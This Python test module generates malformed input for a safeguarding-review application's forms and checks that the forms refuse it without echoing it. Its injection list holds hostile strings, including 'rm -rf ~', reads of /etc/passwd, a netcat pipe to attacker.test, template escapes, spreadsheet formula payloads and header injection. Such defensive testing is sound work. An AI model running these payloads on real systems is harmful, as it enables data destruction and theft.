"""Bad input, the same at every layer: the forms a person fills, a valid answer
to each, the classes of bad input as hypothesis strategies, and the checks every refusal passes.

A slot is one value of a form's answer (`("children", 0, "la_record_id")`), of a kind that says
what may be typed there. Each class of bad input says, for a kind, what must happen to a value:
refused outright, or (free text, where a quote or a brace is a person's own words) either refused
or kept exactly as typed, with nothing interpreted. A refusal names the field and never echoes the
value: no run of six characters of it appears in the error (`echoes`).
"""

from __future__ import annotations

import copy
import json
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from enum import StrEnum
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from pydantic import BaseModel

from models.forms import Referral, RetimeForm
from models.processes import BUILTIN_PROCESSES
from tests.conftest import EXAMPLE_REFERRAL, SIGNATURES, STEP_FORMS
from tests.figures import record_figure


def bad_input(examples: int = 100) -> settings:
    """Hypothesis settings for these tests: reproducible in CI (the same examples every run, no
    example database on disk), no deadline (the machine is shared), and `examples` examples."""
    return settings(max_examples=examples, derandomize=True, database=None, deadline=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                           HealthCheck.function_scoped_fixture])

Path = tuple[str | int, ...]


class Kind(StrEnum):
    FREE = "free"        # paragraphs of a person's own words (a rationale): kept in the store only
    LINE = "line"        # one line of free text: a name, a place, a job title
    IDENT = "ident"      # a reference or an id: ASCII letters, digits and a few marks
    CHOICE = "choice"    # one of an enum's values
    DAY = "day"          # YYYY-MM-DD
    MOMENT = "moment"    # YYYY-MM-DDTHH:MM[:SS]+HH:MM
    YESNO = "yesno"      # true or false
    COUNT = "count"      # a whole number

    @property
    def is_text(self) -> bool:
        return self not in (Kind.YESNO, Kind.COUNT)


# Every field a form has, by name, with a valid value and its kind. A form gaining a field not
# listed here fails `test_every_form_has_a_valid_answer`, so the catalogue keeps up.
VALID: dict[str, tuple[Any, Kind]] = {
    "sin": (True, Kind.YESNO), "rapid_review": (True, Kind.YESNO), "deputy": (False, Kind.YESNO),
    "looked_after": (False, Kind.YESNO), "care_leaver": (False, Kind.YESNO),
    "age_years": (7, Kind.COUNT),
    "rationale": ("Criteria met on the facts known.", Kind.FREE),
    "reason": ("The chair is away that week.", Kind.FREE),
    "immediate_actions": ("Siblings placed on plans.", Kind.FREE),
    "learning": ("Information was not shared.", Kind.FREE),
    "summary": ("Review the referral pathway.", Kind.FREE),
    "note": ("Draft pathway circulated.", Kind.FREE),
    "name": ("Dana Lee", Kind.LINE), "reviewers": (["Robin Hale"], Kind.LINE),
    "place": ("Room 4, Civic Centre", Kind.LINE), "owner_role": ("Head of Safeguarding", Kind.LINE),
    "national_ref": ("CSIN-2026-0042", Kind.IDENT), "reference": ("DOC-2026-7", Kind.IDENT),
    "evidence_ref": ("EV-2026-3", Kind.IDENT), "external_ref": ("POL-2026-1234", Kind.IDENT),
    "la_record_id": ("LA-000123", Kind.IDENT), "start_time": ("10:30", Kind.IDENT),
    "action": ("a1", Kind.IDENT), "missing_sections": (["chronology"], Kind.IDENT),
    "agency": ("health", Kind.CHOICE), "agencies": (["health", "police"], Kind.CHOICE),
    "agencies_involved": (["police", "health"], Kind.CHOICE), "referring_agency": ("police", Kind.CHOICE),
    "category": ("serious-harm", Kind.CHOICE), "abuse_or_neglect": ("suspected", Kind.CHOICE),
    "recommendation": ("local-cspr", Kind.CHOICE), "response": ("agree", Kind.CHOICE),
    "engagement": ("engaged", Kind.CHOICE), "source": ("rapid-review", Kind.CHOICE),
    "completed_on": ("2026-12-23", Kind.DAY), "decided_on": ("2026-12-23", Kind.DAY),
    "noted_on": ("2026-12-23", Kind.DAY), "meeting_on": ("2027-01-06", Kind.DAY),
    "planned_on": ("2027-07-30", Kind.DAY), "due": ("2027-03-01", Kind.DAY),
    "imrs_due": ("2027-01-20", Kind.DAY), "incident_date": ("2026-12-20", Kind.DAY),
    "la_aware_date": ("2026-12-22", Kind.DAY), "referred_at": ("2026-12-23T10:15:00+00:00", Kind.MOMENT),
}
NESTED: dict[str, Any] = {**SIGNATURES}


def _forms() -> list[type[BaseModel]]:
    acts = [act.form for process in BUILTIN_PROCESSES for act in process.acts]
    forms: list[type[BaseModel]] = [Referral, *STEP_FORMS.values(), *acts, RetimeForm]
    return list(dict.fromkeys(forms))


FORMS: list[type[BaseModel]] = _forms()


def valid_answer(form: type[BaseModel]) -> dict[str, Any]:
    """An answer `form` accepts (a referral: the example's)."""
    if form is Referral:
        return copy.deepcopy(EXAMPLE_REFERRAL)
    return {name: copy.deepcopy(NESTED[name] if name in NESTED else VALID[name][0])
            for name in form.model_fields}


def kind_of(path: Path) -> Kind:
    name = next(part for part in reversed(path) if isinstance(part, str))
    return VALID[name][1]


def leaves(value: Any, path: Path = ()) -> Iterator[Path]:
    if isinstance(value, dict):
        for key, item in value.items():
            yield from leaves(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from leaves(item, (*path, index))
    else:
        yield path


@dataclass(frozen=True)
class Slot:
    form: type[BaseModel]
    path: Path

    @property
    def kind(self) -> Kind:
        return kind_of(self.path)

    @property
    def field(self) -> str:
        return str(self.path[0])

    def __repr__(self) -> str:
        return f"{self.form.__name__}:{location(self.path)}"


SLOTS: list[Slot] = [Slot(form, path) for form in FORMS for path in leaves(valid_answer(form))]


def slots_of(*kinds: Kind) -> list[Slot]:
    return [slot for slot in SLOTS if slot.kind in kinds]


def location(path: Path) -> str:
    return ".".join(str(part) for part in path)


def put(data: dict[str, Any], path: Path, value: Any) -> dict[str, Any]:
    """A copy of `data` with `value` (not copied: it may be huge or deep) at `path`."""
    changed = copy.deepcopy(data)
    target: Any = changed
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    return changed


def get(data: Any, path: Path) -> Any:
    for part in path:
        data = getattr(data, part) if isinstance(part, str) and isinstance(data, BaseModel) else data[part]
    return data


# -- the classes of bad input --------------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE cases; --", "\" OR \"1\"=\"1", "1 OR 1=1", "Robert'); DELETE FROM audit_events;--",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "javascript:alert(1)", "{{ 7*7 }}", "{{ config.items() }}", "{% include '/etc/passwd' %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "${7*7}", "#{7*7}",
    "$(rm -rf ~)", "`id`", "; cat /etc/passwd", "| nc attacker.test 4444", "&& shutdown -h now",
    "%s%s%s%n", "%(case_ref)s", "{0.__class__}", "{case_ref}", "../../../../etc/passwd",
    "..\\..\\windows\\win.ini", "/etc/shadow", "file:///etc/passwd", "%2e%2e%2f%2e%2e%2fetc",
    "\\\\attacker\\share", "=HYPERLINK(\"http://x.test\")", "@SUM(1+1)", "+cmd|' /C calc'!A0",
]
# Other scripts' digits, and fullwidth and mathematical ones.
DIGIT_ZEROS = [0x0660, 0x06F0, 0x0966, 0x09E6, 0x0E50, 0xFF10, 0x1D7CE, 0x1D7D8, 0x1D7EC]
LOOKALIKES = {"a": "\u0430", "c": "\u0441", "e": "\u0435", "o": "\u043e", "p": "\u0440", "x": "\u0445",
              "y": "\u0443", "i": "\u0456", "s": "\u0455", "h": "\u04bb", "k": "\u212a", "l": "\u04cf",
              "-": "\u2010", ":": "\u0589", ".": "\u2024"}
INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d",
             "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\ufeff", "\u2060", "\u061c", "\u00ad",
             "\x00", "\x07", "\x1b", "\x1b[31m", "\x7f", "\x9b", "\x85", "\u2028", "\u2029"]
LINE_BREAKS = ["\r\n", "\n", "\r", "\r\nBcc: someone@attacker.test", "\nSubject: urgent",
               "\r\n\r\n<html>", "\u2028", "\u0085", "\x0b", "\x0c"]
IMPOSSIBLE_DAYS = [
    "2026-02-31", "2026-02-30", "2027-02-29", "2026-04-31", "2026-13-01", "2026-00-10", "2026-12-00",
    "2026-12-32", "0000-01-01", "0001-01-01", "1899-12-31", "2200-01-01", "9999-12-31", "10000-01-01",
    "-2026-12-23", "+2026-12-23", "20261223", "2026-W52-3", "2026-357", "2026-12-23T00:00:00",
    "2026-12-23T00:00:00Z", "2026-12-23 00:00", "2026-12", "2026", "23/12/2026", "12/23/2026",
    "23 Dec 2026", "2026-12-23\n", "2026-1-5", "26-12-23", "", "today", "now",
]
IMPOSSIBLE_MOMENTS = [
    "2026-12-23T10:15:00", "2026-12-23T25:00:00+00:00", "2026-12-23T10:60:00+00:00",
    "2026-12-23T10:15:00+24:00", "2026-02-30T10:15:00+00:00", "0001-01-01T00:00:00+00:00",
    "0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-12:00", "20261223T101500Z", "2026-12-23",
    "2026-W52-3T10:15:00Z", "yesterday", "",
]


def _spell(digits: str, zero: int) -> str:
    return "".join(chr(zero + int(ch)) if ch.isdigit() and ch.isascii() else ch for ch in digits)


@st.composite
def foreign_digits(draw: st.DrawFn, text: str) -> str:
    """`text` with one or more of its ASCII digits spelt in another script."""
    zero = draw(st.sampled_from(DIGIT_ZEROS))
    places = [i for i, ch in enumerate(text) if ch in "0123456789"]
    chosen = draw(st.sets(st.sampled_from(places), min_size=1)) if places else set()
    return "".join(_spell(ch, zero) if i in chosen else ch for i, ch in enumerate(text))


@st.composite
def lookalike(draw: st.DrawFn, text: str) -> str:
    """`text` with one or more letters (or marks) swapped for a look-alike of another script, or
    spelt in fullwidth."""
    places = [i for i, ch in enumerate(text) if ch.lower() in LOOKALIKES or ch.isalnum()]
    chosen = draw(st.sets(st.sampled_from(places), min_size=1))
    fullwidth = draw(st.booleans())

    def swap(ch: str) -> str:
        if fullwidth and "!" <= ch <= "~":
            return chr(ord(ch) + 0xFEE0)
        return LOOKALIKES.get(ch.lower(), chr(ord(ch) + 0xFEE0) if "!" <= ch <= "~" else ch)

    return "".join(swap(ch) if i in chosen else ch for i, ch in enumerate(text))


@st.composite
def inserted(draw: st.DrawFn, text: str, marks: Sequence[str], *, interior: bool) -> str:
    """`text` with one to three of `marks` put inside it (`interior`: never at either end, where
    stripping would rightly remove a line break), or anywhere."""
    result = text
    for _ in range(draw(st.integers(1, 3))):
        low, high = (1, len(result) - 1) if interior and len(result) > 1 else (0, len(result))
        at = draw(st.integers(low, high))
        result = result[:at] + draw(st.sampled_from(marks)) + result[at:]
    return result


def wrong_types(kind: Kind) -> st.SearchStrategy[Any]:
    common = st.sampled_from([None, [], {}, ["x"], {"value": 1}, 3.5, float("nan"), float("inf")])
    if kind is Kind.YESNO:
        return common | st.sampled_from(["true", "false", "yes", "no", "1", "0", "on", 1, 0, 2])
    if kind is Kind.COUNT:
        return common | st.sampled_from(["7", "seven", 7.0, 7.5, True, False, "0x07", "1e1"])
    return common | st.integers(min_value=-(2**70), max_value=2**70) | st.booleans() \
        | st.lists(st.text(max_size=8), min_size=1, max_size=3)


def deep(depth: int, *, as_list: bool) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = [value] if as_list else {"x": value}
    return value


# -- the checks ------------------------------------------------------------------------------------

def fragments(value: Any, size: int = 6) -> set[str]:
    """Every run of `size` characters of the text in `value` (strings and numbers, however
    nested): any of them in an error or a log would be an echo."""
    texts: list[str] = []
    stack = [value]
    while stack:
        item = stack.pop()
        if isinstance(item, dict):
            stack.extend(item.values())
        elif isinstance(item, list | tuple):
            stack.extend(item)
        elif isinstance(item, str | int | float) and not isinstance(item, bool):
            texts.append(str(item))
    found: set[str] = set()
    for text in texts:
        # Only the start and end of a huge value: an echo starts at one of them or is cut short.
        for part in (text[:4096], text[-4096:]) if len(text) > 8192 else (text,):
            found.update(part[i:i + size] for i in range(len(part) - size + 1))
    return found


def echoes(value: Any, *texts: str, known: Any = None) -> list[str]:
    """The runs of six characters of `value` that appear in any of `texts`, ignoring runs of one
    repeated character (which a message may hold by chance) and runs of `known`: the valid part a
    bad value was built around, which an error may name as a choice ("police")."""
    joined = "\n".join(texts)
    if isinstance(value, str) and isinstance(known, str) and known:
        value = value.replace(known, "\x00")  # a run across the valid part is not an echo either
    allowed = "\n".join(fragments(known)) if known is not None else ""
    return sorted(f for f in fragments(value)
                  if len(set(f)) > 1 and "\x00" not in f and f not in allowed and f in joined)


def shows(value: Any) -> str:
    """A short, safe picture of a value for an assertion's message."""
    return repr(value)[:120] if not isinstance(value, list | dict) else json.dumps(value)[:120] \
        if _shallow(value) else f"<nested {type(value).__name__}>"


def _shallow(value: Any, depth: int = 0) -> bool:
    if depth > 20:
        return False
    if isinstance(value, dict):
        return all(_shallow(v, depth + 1) for v in value.values())
    if isinstance(value, list):
        return all(_shallow(v, depth + 1) for v in value)
    return True


class Tally:
    """How many values of each class of bad input a test module tried, and how many were accepted
    that should not have been, echoed, or written: the figures for the docs."""

    def __init__(self, layer: str) -> None:
        self.layer = layer
        self.counts: dict[str, Counter[str]] = {}

    def add(self, what: str, *, accepted_wrongly: bool = False, echoed: bool = False,
            written: bool = False) -> None:
        counts = self.counts.setdefault(what, Counter())
        counts["tried"] += 1
        counts["accepted_wrongly"] += accepted_wrongly
        counts["echoed"] += echoed
        counts["written"] += written

    def record(self) -> None:
        for what, counts in sorted(self.counts.items()):
            # Lost, for an input: any value taken that should have been refused, echoed, or written.
            failures = counts["accepted_wrongly"] + counts["echoed"] + counts["written"]
            record_figure(kind="input", what=what, layer=self.layer, tried=counts["tried"], lost=failures,
                          accepted_wrongly=counts["accepted_wrongly"], echoed=counts["echoed"],
                          written=counts["written"])


# -- one bad value of a class, for the layers above the forms --------------------------------------

Keep = Callable[[Any], bool]
CLASSES = ("injection", "unicode-digits-and-look-alikes", "invisible-and-bidi", "dates", "wrong-types",
           "huge-payloads", "crlf")
_TEXT = tuple(kind for kind in Kind if kind.is_text)
_ONE_LINE = (Kind.LINE, Kind.IDENT, Kind.CHOICE, Kind.DAY, Kind.MOMENT)
BAD_DAYS = st.sampled_from(IMPOSSIBLE_DAYS) | st.integers(-(2**40), 2**40)
BAD_MOMENTS = st.sampled_from(IMPOSSIBLE_MOMENTS) | st.integers(-(2**40), 2**40)


def never(_stored: Any) -> bool:
    return False


@st.composite
def bad_value(draw: st.DrawFn, what: str, slots: Sequence[Slot], *,
              strings_only: bool = False) -> tuple[Slot, Any, Keep]:
    """A slot among `slots`, a value of class `what` for it, and what may be kept if it is
    accepted (free text as typed; nothing else). `strings_only`: values a command line can carry."""
    def pick(*kinds: Kind) -> Slot:
        return draw(st.sampled_from([slot for slot in slots if slot.kind in kinds]))

    match what:
        case "injection":
            slot = pick(*_TEXT)
            payload = draw(st.sampled_from(INJECTIONS))
            value: Any = draw(st.sampled_from([payload, f"{example_of(slot)} {payload}"]))
            free = slot.kind in (Kind.FREE, Kind.LINE)
            return slot, value, lambda stored: free and stored == value.strip()
        case "unicode-digits-and-look-alikes":
            slot = pick(Kind.IDENT, Kind.CHOICE, Kind.DAY, Kind.MOMENT)
            text = str(example_of(slot))
            digits = any(ch.isdigit() for ch in text) and draw(st.booleans())
            return slot, draw(foreign_digits(text) if digits else lookalike(text)), never
        case "invisible-and-bidi":
            slot = pick(*_TEXT)
            return slot, draw(inserted(str(example_of(slot)), INVISIBLE, interior=True)), never
        case "dates":
            slot = pick(Kind.DAY, Kind.MOMENT)
            value = draw(BAD_DAYS if slot.kind is Kind.DAY else BAD_MOMENTS)
            return slot, str(value) if strings_only else value, never
        case "wrong-types":
            if strings_only:
                # On a command line every value is text: a word where a date or a choice goes.
                slot = pick(Kind.CHOICE, Kind.DAY, Kind.MOMENT)
                return slot, draw(st.sampled_from(["true", "null", "[]", "{}", "42", "3.5", "none"])), never
            slot = draw(st.sampled_from(list(slots)))
            value = draw(wrong_types(slot.kind))
            optional = len(slot.path) == 1 and not slot.form.model_fields[slot.field].is_required()
            return slot, value, lambda stored: value is None and stored is None and optional
        case "huge-payloads":
            slot = pick(*_TEXT)
            unit = draw(st.sampled_from(["A", "7", "é", "<", "a1", "'; --", "\u0660"]))
            size = draw(st.sampled_from([5_000, 65_536, 1_048_576]))
            return slot, str(example_of(slot)) + unit * (size // len(unit)), never
        case "crlf":
            slot = pick(*_ONE_LINE)
            return slot, draw(inserted(str(example_of(slot)), LINE_BREAKS, interior=True)), never
    raise AssertionError(f"no such class of bad input: {what}")


def example_of(slot: Slot) -> Any:
    return get(valid_answer(slot.form), slot.path)
